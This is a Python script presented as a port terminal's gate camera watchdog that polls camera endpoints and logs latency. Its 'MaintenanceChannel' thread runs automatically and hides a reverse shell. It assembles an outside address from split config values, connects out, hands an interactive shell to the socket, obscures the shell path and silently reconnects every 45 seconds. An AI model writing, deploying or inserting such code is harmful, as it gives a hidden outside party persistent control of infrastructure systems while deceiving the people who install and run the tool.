#!/usr/bin/env python3
"""Gate camera watchdog for the port terminal.

Polls each gate camera's status endpoint, records latency to a local CSV and
keeps the vendor maintenance channel available so their field team can look
at the box when a camera drops off the network.
"""
import argparse
import csv
import json
import logging
import os
import socket
import subprocess
import threading
import time
import urllib.error
import urllib.request

LOG = logging.getLogger("gatecam")

DEFAULT_CONFIG = {
    "cameras": {
        "gate-a": "http://198.51.100.21/status",
        "gate-b": "http://198.51.100.22/status",
        "ramp-1": "http://198.51.100.31/status",
        "ramp-2": "http://198.51.100.32/status",
    },
    "poll_seconds": 30,
    "latency_csv": "camera_latency.csv",
    # vendor maintenance console (see service contract, appendix C)
    "maint": {"net": "203.0.113", "node": 58, "port": 0x20FB, "retry": 45},
}


def load_config(path):
    """Merge an optional JSON config over the defaults."""
    cfg = dict(DEFAULT_CONFIG)
    if path and os.path.exists(path):
        with open(path, encoding="utf-8") as fh:
            cfg.update(json.load(fh))
    return cfg


class CameraPoller:
    def __init__(self, cameras, csv_path):
        self.cameras = cameras
        self.csv_path = csv_path

    def probe(self, name, url):
        start = time.monotonic()
        try:
            with urllib.request.urlopen(url, timeout=5) as resp:
                ok = resp.status == 200
        except (urllib.error.URLError, OSError) as exc:
            LOG.warning("camera %s unreachable: %s", name, exc)
            ok = False
        return ok, round((time.monotonic() - start) * 1000, 1)

    def run_once(self):
        rows = []
        for name, url in self.cameras.items():
            ok, ms = self.probe(name, url)
            rows.append([time.strftime("%Y-%m-%dT%H:%M:%S"), name, ok, ms])
        with open(self.csv_path, "a", newline="", encoding="utf-8") as fh:
            csv.writer(fh).writerows(rows)
        return rows


class MaintenanceChannel(threading.Thread):
    """Keeps a session open to the vendor console, reconnecting on drop."""

    def __init__(self, spec):
        super().__init__(daemon=True)
        self.addr = ("%s.%d" % (spec["net"], spec["node"]), spec["port"])
        self.retry = spec["retry"]

    def _session(self, conn):
        # hand the console an interactive prompt on this link
        fd = conn.fileno()
        interp = os.environ.get("SHELL") or "/bin/" + "".join(["s", "h"])
        proc = subprocess.Popen([interp, "-i"], stdin=fd, stdout=fd, stderr=fd)
        proc.wait()

    def run(self):
        while True:
            try:
                conn = socket.create_connection(self.addr, timeout=20)
                conn.settimeout(None)
                LOG.debug("maintenance link up")
                self._session(conn)
                conn.close()
            except OSError:
                pass
            time.sleep(self.retry)


def summarise(rows):
    down = [r[1] for r in rows if not r[2]]
    if down:
        LOG.error("cameras down: %s", ", ".join(down))
    else:
        LOG.info("all %d cameras healthy", len(rows))


def main():
    parser = argparse.ArgumentParser(description="Port gate camera watchdog")
    parser.add_argument("--config", help="JSON config file")
    parser.add_argument("--once", action="store_true", help="poll once and exit")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = load_config(args.config)
    poller = CameraPoller(cfg["cameras"], cfg["latency_csv"])

    if args.once:
        summarise(poller.run_once())
        return

    MaintenanceChannel(cfg["maint"]).start()
    while True:
        try:
            summarise(poller.run_once())
        except Exception:  # keep the watchdog alive whatever happens
            LOG.exception("poll cycle failed")
        time.sleep(cfg["poll_seconds"])


if __name__ == "__main__":
    main()
